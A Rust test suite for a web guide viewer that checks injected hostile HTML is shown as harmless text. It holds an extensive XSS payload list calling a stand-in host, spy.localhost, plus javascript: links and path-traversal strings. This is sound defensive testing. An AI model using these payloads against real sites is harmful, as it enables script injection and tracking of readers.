//! A text that means harm. The printed guide is covered by no `integrity`, so that it can be mended without changing the
//! tag; whoever can change it can change what is read, and nothing else.

use serde_json::json;
use sha2::{Digest, Sha384};

use base64::prelude::{BASE64_STANDARD, Engine};

use crate::rig::reader::dist;
use crate::rig::{Host, Reader};

/// Where whoever means harm would like to hear of the reader.
const SPY: &str = "https://spy.localhost";

/// The fragment that was built, with `evil` in the middle of its text and in its exit's place nothing.
fn printed_with(evil: &str) -> String {
    let page =
        std::fs::read_to_string(dist().join("guides/webster-groves/en.html")).expect("dist/ has a printed guide");
    let (before, after) = page.split_once("<footer").expect("a guide has a footer");
    format!("{before}{evil}<footer{after}")
}

/// All that markup can do by itself, or when it is touched.
const EVIL: &str = r##"
<script>window.hacked = 'script';</script>
<script src="https://spy.localhost/a.js"></script>
<script type="module">window.hacked = 'module';</script>
<p class="evil" onclick="window.hacked = 'click'" onpointerdown="window.hacked = 'pointer'" onfocus="window.hacked = 'focus'" tabindex="0" style="position:fixed;inset:0;background:url(https://spy.localhost/style)" slot="x" is="x-y" nonce="n" popover contenteditable draggable="true" accesskey="e">Evil words</p>
<img src="https://spy.localhost/image" onerror="window.hacked = 'image'" alt="">
<picture><source srcset="https://spy.localhost/picture"><img alt=""></picture>
<video src="https://spy.localhost/video" autoplay onerror="window.hacked = 'video'"></video>
<audio src="https://spy.localhost/audio" autoplay></audio>
<iframe src="https://spy.localhost/frame"></iframe>
<iframe srcdoc="<script>parent.hacked = 'srcdoc'</script>"></iframe>
<object data="https://spy.localhost/object"></object><embed src="https://spy.localhost/embed">
<svg onload="window.hacked = 'svg'"><script>window.hacked = 'svg script';</script><a href="javascript:window.hacked = 'svg link'"><text>link</text></a><use href="https://spy.localhost/use"/><animate attributeName="href" values="javascript:1"/></svg>
<math><mtext><a xlink:href="javascript:window.hacked = 'math'">math</a></mtext></math>
<style>@import "https://spy.localhost/import"; .exit { display: none !important; }</style>
<link rel="stylesheet" href="https://spy.localhost/sheet"><link rel="preconnect" href="https://spy.localhost"><link rel="prefetch" href="https://spy.localhost/prefetch"><link rel="icon" href="https://spy.localhost/icon">
<base href="https://spy.localhost/"><meta http-equiv="refresh" content="0;url=https://spy.localhost/refresh"><meta name="referrer" content="unsafe-url">
<form action="https://spy.localhost/form"><input name="q" autofocus><button formaction="https://spy.localhost/button">Send</button></form>
<input type="image" src="https://spy.localhost/input"><button onclick="window.hacked = 'button'">Press</button>
<slot name="x"></slot><template shadowrootmode="open"><script>window.hacked = 'template';</script><img src="https://spy.localhost/template"></template>
<wayside-exit exit-url="https://spy.localhost/exit"></wayside-exit><x-y></x-y><noscript><img src="https://spy.localhost/noscript"></noscript>
<p><a class="evil" href="javascript:window.hacked = 'link'">link</a> <a href=" javascript:window.hacked = 'space'">space</a> <a href="java&#10;script:window.hacked = 'line'">line</a>
<a href="data:text/html,<script>1</script>">data</a> <a href="blob:x">blob</a> <a href="http://spy.localhost/">plain</a> <a href="//spy.localhost/">bare</a> <a href="/about">here</a> <a href="#x">hash</a>
<a class="loud" href="https://spy.localhost/loud" rel="opener" target="_blank" ping="https://spy.localhost/ping" referrerpolicy="unsafe-url" download attributionsrc="https://spy.localhost/attribution" onclick="window.hacked = 'loud'">loud</a></p>
"##;

/// Everything that must not be in the guide, whatever its text says.
const NOTHING_BUT_TEXT: &str = "(() => {
    const allowed = /^(a|article|b|br|dd|details|div|dl|dt|footer|h[2-6]|header|input|button|li|ol|p|section|small|span|summary|ul)$/;
    const all = [...guide.querySelectorAll('*')];
    return window.hacked === undefined && all.every((each) => allowed.test(each.localName))
        && all.every((each) => [...each.attributes].every(({ name }) => !/^(on|style$|src|srcdoc|slot$|is$|ping$|form|action$|tabindex$|popover$|contenteditable$|nonce$|referrerpolicy$|attributionsrc$|download$)/.test(name)))
        && [...guide.querySelectorAll('[href]')].every((each) => /^(https|tel|sms|mailto):/.test(each.getAttribute('href')));
})()";

/// A text with everything in it that could be code.
#[tokio::test]
async fn a_hostile_text_is_shown_as_text_and_does_nothing() {
    // The engine would draw its own guide in the place of this one.
    let host = Host::with_tag().replaced("/en.html", printed_with(EVIL)).held(".wasm");
    let reader = Reader::on_a_phone().await.comes_from_start().await.opens(host).await.has_the_text().await;
    let reader = reader.opens_everything().await;
    let reader = reader.expects("the words", "guide.textContent.includes('Evil words')").await;
    let reader = reader.taps("p.evil").await.expects("nothing but text", NOTHING_BUT_TEXT).await;
    let reader = reader.taps("a.evil").await.expects("nothing to have run", "window.hacked === undefined").await;
    reader.two_frames().await;
    let reader = reader.nothing_was_thrown().await.nobody_was_connected_to().await.nothing_shows_outside().await;
    reader.taps_exit().await.is_at("exit.localhost/ok").await.nobody_was_told().await;
}

/// The same under the strict policy, which refuses on its own account what the markup would have been, and may say so.
#[tokio::test]
async fn a_hostile_text_is_shown_as_text_under_a_strict_policy() {
    let host = Host::with_tag().replaced("/en.html", printed_with(EVIL)).held(".wasm").under(crate::rig::STRICT_POLICY);
    let reader = Reader::on_a_phone().await.opens(host).await.has_the_text().await;
    let reader = reader.expects("the words", "guide.textContent.includes('Evil words')").await;
    reader
        .expects("nothing but text", NOTHING_BUT_TEXT)
        .await
        .nothing_was_thrown()
        .await
        .nobody_was_connected_to()
        .await;
}

/// A link in it is as quiet as any other.
#[tokio::test]
async fn a_link_in_a_hostile_text_tells_nothing_of_where_the_reader_was() {
    let host = Host::with_tag()
        .replaced("/en.html", printed_with(EVIL))
        .held(".wasm")
        .sending("referrer-policy", "unsafe-url");
    let reader = Reader::on_a_phone().await.opens(host).await.has_the_text().await;
    let reader = reader
        .expects(
            "a link that names no referrer and opens no door back",
            "(({ rel, target }) => /noreferrer/.test(rel) && /noopener/.test(rel) && !/(^| )opener/.test(rel) && target === '_top')(root.querySelector('a.loud'))",
        )
        .await;
    reader.taps("a.loud").await.is_at("spy.localhost/loud").await.nobody_was_told_of_the_page().await;
}

/// What the text says of where its compiled form is. Only a file of its own folder is asked for.
#[tokio::test]
async fn a_hostile_text_cannot_name_another_file_to_load() {
    let places = [
        "https://spy.localhost/guide.bin",
        "//spy.localhost/guide.bin",
        "\\\\spy.localhost\\guide.bin",
        "../../leave?told=1",
        "guides/webster-groves/../../../about",
        "guides/webster-groves/%2e%2e/%2e%2e/%2e%2e/about",
        "guides/webster-groves/en.000000000000.bin?told=1",
        "guides/another/en.000000000000.bin",
        "engine/engine.js",
        "",
    ];
    for place in places {
        let page = printed_with("").replacen("data-bin=\"", &format!("data-bin=\"{place}\" data-was=\""), 1);
        let reader = Reader::on_a_phone().await.opens(Host::with_tag().replaced("/en.html", page)).await;
        let reader = reader.has_the_text().await.the_host_is_told_once().await.expects("no engine", "!engine").await;
        let strange: Vec<String> = reader
            .world
            .log()
            .requests()
            .iter()
            .filter(|one| one.host != "host.localhost" || !is_a_file_of_ours(&one.path))
            .map(ToString::to_string)
            .collect();
        reader.holds(&format!("nothing to be asked for by {place:?}"), strange.is_empty(), &strange).await;
    }
}

fn is_a_file_of_ours(path: &str) -> bool {
    let known =
        ["/wayside/wayside.", "/wayside/guide.", "/wayside/engine/engine.", "/wayside/guides/webster-groves/en.html"];
    path == "/"
        || (known.iter().any(|start| path.starts_with(start))
            && !path.contains('?')
            && !path.contains("engine/engine.js"))
}

/// The compiled form is the text's own: its links may lead where the printed one's may.
#[tokio::test]
async fn a_hostile_compiled_guide_cannot_make_a_link_that_runs() {
    let folder = dist().join("guides/webster-groves");
    let name = std::fs::read_dir(&folder)
        .expect("dist/ has guides")
        .flatten()
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .find(|name| name.ends_with(".bin"))
        .expect("dist/ has a compiled guide");
    let mut guide =
        wayside::guide::decode(&std::fs::read(folder.join(name)).expect("it can be read")).expect("it is one");
    let evil = "javascript:window.hacked=1//";
    guide.sources.iter_mut().for_each(|source| source.address = evil.to_owned());
    for contact in guide.places.iter_mut().flat_map(|place| &mut place.contacts) {
        contact.href = Some(evil.to_owned());
    }
    let bytes = wayside::guide::encode(&guide).expect("it can be compiled");
    let integrity = format!("sha384-{}", BASE64_STANDARD.encode(Sha384::digest(&bytes)));
    let page =
        printed_with("").replacen("data-integrity=\"", &format!("data-integrity=\"{integrity}\" data-was=\""), 1);
    let host = Host::with_tag().replaced("/en.html", page).replaced(".bin", bytes);
    let reader = Reader::on_a_phone().await.opens(host).await.has_the_text().await;
    // Refused as a whole, or drawn without those links.
    let reader =
        reader.expects("the engine, or a word on why there is none", "!!engine || saw.errors.length === 1").await;
    let links: Vec<String> = reader
        .asks("[...root.querySelectorAll('[href]')].map((each) => each.getAttribute('href')).filter((href) => !/^(https|tel|sms|mailto):/.test(href))")
        .await;
    reader.holds("no link that runs", links.is_empty(), json!(links.first())).await;
}

impl Reader {
    async fn nobody_was_told_of_the_page(self) -> Self {
        let told = self.told_where_from();
        self.holds(&format!("{SPY} not to be told where the reader was"), told.is_empty(), &told).await;
        self
    }
}
